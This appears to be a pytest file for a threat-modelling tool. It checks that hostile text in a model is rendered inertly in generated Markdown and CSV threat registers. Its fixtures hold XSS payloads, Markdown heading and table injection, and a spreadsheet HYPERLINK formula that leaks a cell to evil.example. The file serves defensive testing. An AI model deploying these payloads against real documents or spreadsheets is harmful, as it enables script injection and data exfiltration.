"""Hostile model text in the threat register: ``threats.md`` shows it as text (no HTML,
links, comments, headings or table rows), ``threats.csv`` cells never start a formula."""

from __future__ import annotations

import csv
import io
import re
import shutil
from pathlib import Path

import markdown
import pytest
import yaml

from archmodel.api import load_project
from archmodel.formats.csv import FORMULA_START, cell
from archmodel.generators.threats import render_csv, render_md
from archmodel.threats import analyse

SHOP = Path(__file__).parent / "models" / "shop"
HOSTILE = (
    "pg <script>alert(1)</script> <img src=x onerror=alert(2)> [click](javascript:alert(3)) "
    "<!-- hidden\n\n## Injected heading\n\n| forged | row |\n|---|---|\n| a | b |\n"
)
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1, "open")'


def _hostile_shop(tmp_path: Path) -> Path:
    """The shop model with hostile text in a technology (it reaches finding descriptions)
    and in a risk justification (it reaches the Decision line and a CSV cell)."""
    model = tmp_path / "shop"
    shutil.copytree(SHOP, model)
    doc = yaml.safe_load((model / "archmodel.yaml").read_text())
    for c in doc["components"]:
        if c["id"] == "db":
            c["technology"] = HOSTILE
    doc["risks"][0]["justification"] = FORMULA + "\n" + HOSTILE
    (model / "archmodel.yaml").write_text(yaml.safe_dump(doc, sort_keys=False))
    return model


@pytest.fixture(scope="module")
def rendered(tmp_path_factory: pytest.TempPathFactory) -> tuple[str, str]:
    model = _hostile_shop(tmp_path_factory.mktemp("hostile"))
    project = load_project(model)
    assert not project.failed(), project.diagnostics
    report = analyse(project)
    assert any(HOSTILE.split()[0] in f.description and "<script>" in f.description for f in report.findings)
    return render_md(report, model), render_csv(report, model)


def test_markdown_register_shows_hostile_text_as_text(rendered: tuple[str, str]) -> None:
    html = markdown.markdown(rendered[0], extensions=["tables"])
    assert "<script" not in html and "<img" not in html and "<!--" not in html
    assert "javascript:" not in re.findall(r'href="([^"]*)"', html).__str__()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html  # still shown, as text
    headings = re.findall(r"<h2>(.*?)</h2>", html)
    assert not any("Injected" in h for h in headings), headings
    assert "<td>forged</td>" not in html
    # The summary matrix, the attack path tables and the blast radius table only.
    ours = 1 + rendered[0].count("\n| target | path |") + rendered[0].count("\n| component | kind |")
    assert html.count("<table>") == ours


def test_csv_register_cells_are_not_formulas(rendered: tuple[str, str]) -> None:
    rows = list(csv.DictReader(io.StringIO(rendered[1])))
    decided = [r for r in rows if r["justification"]]
    assert decided and decided[0]["justification"].startswith("'=HYPERLINK(")
    for row in rows:
        for value in row.values():
            assert value[:1] not in FORMULA_START, value


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "\uff1d1"])
def test_formula_cells_get_a_leading_quote(text: str) -> None:
    assert cell(text) == "'" + text


@pytest.mark.parametrize("value, shown", [("plain", "plain"), ("a=b", "a=b"), (None, ""), (12, "12")])
def test_other_cells_are_unchanged(value: object, shown: str) -> None:
    assert cell(value) == shown
